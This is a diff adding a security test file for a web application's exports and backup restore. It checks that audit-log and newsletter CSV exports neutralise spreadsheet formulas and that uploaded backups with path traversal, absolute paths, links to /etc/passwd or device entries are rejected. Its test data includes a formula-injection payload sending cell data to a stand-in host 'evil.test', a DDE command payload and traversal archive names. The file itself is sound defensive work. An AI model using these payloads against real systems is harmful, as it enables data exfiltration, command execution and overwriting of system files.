@@ -1,0 +1,127 @@
+import { readdir, readFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { gunzipSync, gzipSync } from 'node:zlib'
+import { pack } from 'tar-stream'
+import { expect, test } from 'vitest'
+import { auditLog, users } from '../src/db/accounts-schema.ts'
+import { newsletterSubscribers } from '../src/db/schema.ts'
+import { writeBackup } from '../src/operations/backup/write-backup.ts'
+import { createUser } from './accounts.ts'
+import { contentsOf } from './database-contents.ts'
+import { thingsOf } from './owned-things.ts'
+import { createWholeSite } from './whole-site.ts'
+
+const { app, send, logged } = await createWholeSite()
+const admin = await createUser(app, 'admin')
+const { cookie } = admin
+
+/** What a spreadsheet would run, or take for the end of a cell. */
+const formulas = [
+  '=HYPERLINK("https://evil.test?"&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  '+1+cmd|x',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  ';=1+1',
+  '"=1+1',
+  ',=1+1',
+  '\u{FEFF}=1+1',
+  '＝1+1',
+]
+
+/** The cells of a file as spreadsheets read it (RFC 4180). */
+function cellsOf(csv: string): Array<string> {
+  const cells = csv.replace(/^\u{FEFF}/u, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/g)
+  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '')
+}
+
+test('no cell of the audit log is a formula, and every name is whole', async () => {
+  for (const name of formulas) {
+    const { user } = await createUser(app, 'cook', name)
+    await app.db
+      .insert(auditLog)
+      .values({ actorId: user.id, action: name, subjectKind: name, subjectId: name, details: { name } })
+  }
+  const answer = await send('/admin/audit/export', { cookie })
+  expect(answer.headers.get('content-type')).toContain('text/csv')
+  const text = await answer.text()
+  const cells = cellsOf(text)
+  expect(cells.length % 7).toBe(0)
+  expect(cells.filter((cell) => /^[\s\p{Cc}]*[=+\-@＝]/u.test(cell))).toEqual([])
+  expect(formulas.filter((name) => !cells.some((cell) => cell === name || cell === `'${name}`))).toEqual([])
+  // Some spreadsheets end a cell at a semicolon or a tab outside quotes.
+  expect(text).not.toMatch(/(?:^|[,\n])[^",\r\n]*[;\t]/m)
+})
+
+test('no address of a reader is a formula', async () => {
+  const addresses = formulas.map((name, place) => `${name}@kitchen${place}.test`)
+  await app.db.insert(newsletterSubscribers).values(addresses.map((email) => ({ email })))
+  const cells = cellsOf(await (await send('/admin/newsletter/export', { cookie })).text())
+  expect(cells.filter((cell) => /^[\s\p{Cc}]*[=+\-@＝]/u.test(cell))).toEqual([])
+  expect(addresses.filter((email) => !cells.some((cell) => cell === email || cell === `'${email}`))).toEqual([])
+})
+
+await thingsOf(app, admin, 'Backup').recipe('published')
+const folder = join(app.env.DATA_DIR, 'backups')
+const made = join(app.env.DATA_DIR, 'made.backup')
+await writeBackup(app, made)
+const whole = Uint8Array.from(await readFile(made))
+const unpacked = gunzipSync(whole)
+
+type Entry = Parameters<ReturnType<typeof pack>['entry']>[0]
+async function archiveOf(header: Entry): Promise<Uint8Array> {
+  const archive = pack()
+  archive.entry(header, header.type ? '' : 'x')
+  archive.finalize()
+  return gzipSync(Buffer.concat(await Array.fromAsync(archive as AsyncIterable<Buffer>)))
+}
+
+test.each([
+  ['cut in half', whole.slice(0, whole.length / 2), 'no whole backup'],
+  ['cut in half and packed again', gzipSync(unpacked.subarray(0, unpacked.length / 2)), 'no whole backup'],
+  ['without its last byte', whole.slice(0, -1), 'no whole backup'],
+  ['with a path upward', await archiveOf({ name: '../../evil.webp' }), 'holds "../../evil.webp", which no backup has'],
+  ['with a path upward inside', await archiveOf({ name: 'pictures/../../x/original.webp' }), 'which no backup has'],
+  ['with an absolute path', await archiveOf({ name: '/etc/cron.d/evil' }), 'which no backup has'],
+  ['with a path of Windows', await archiveOf({ name: '..\\..\\evil.webp' }), 'which no backup has'],
+  [
+    'with a link',
+    await archiveOf({ name: 'pictures/a/original.webp', type: 'symlink', linkname: '/etc/passwd' }),
+    'no',
+  ],
+  [
+    'with a hard link',
+    await archiveOf({ name: 'pictures/a/original.webp', type: 'link', linkname: '/etc/passwd' }),
+    'no',
+  ],
+  ['with a device', await archiveOf({ name: 'pictures/a/original.webp', type: 'character-device' }), 'no'],
+  ['that is a picture', new TextEncoder().encode('GIF89a'), 'no whole backup'],
+])('a backup %s is not taken: told why, nothing kept, logged', async (_, body, why) => {
+  const before = await contentsOf(app.db)
+  const answer = await send('/api/backups', { cookie, body: Uint8Array.from(body) })
+  expect(answer.status).toBe(422)
+  const { error } = (await answer.json()) as { error: string }
+  expect(error).toContain('The file was not taken.')
+  expect(error).toContain(why)
+  expect(await readdir(folder)).toEqual([])
+  expect(await contentsOf(app.db)).toEqual(before)
+  expect(logged().at(-1)).toMatchObject({ method: 'POST', path: '/api/backups', status: 422 })
+})
+
+test('whole, it is taken and restored; a name that leads elsewhere is none', async () => {
+  const names = ['../../../etc/passwd', '../made.backup', 'kitchen-2026-11-20-143000.backup/../../made.backup']
+  for (const name of names) {
+    expect((await send(`/api/backups/${encodeURIComponent(name)}`, { cookie })).status).toBe(404)
+    expect((await send('/admin/backup', { cookie, fields: { intent: 'restore', name } })).status).toBe(422)
+  }
+  const taken = await send('/api/backups', { cookie, body: whole })
+  expect(taken.status).toBe(201)
+  const { name } = (await taken.json()) as { name: string }
+  await app.db.update(users).set({ name: 'Changed since' })
+  expect((await send('/admin/backup', { cookie, fields: { intent: 'restore', name } })).status).toBe(302)
+  expect(JSON.stringify(await app.db.select({ name: users.name }).from(users))).not.toContain('Changed since')
+})
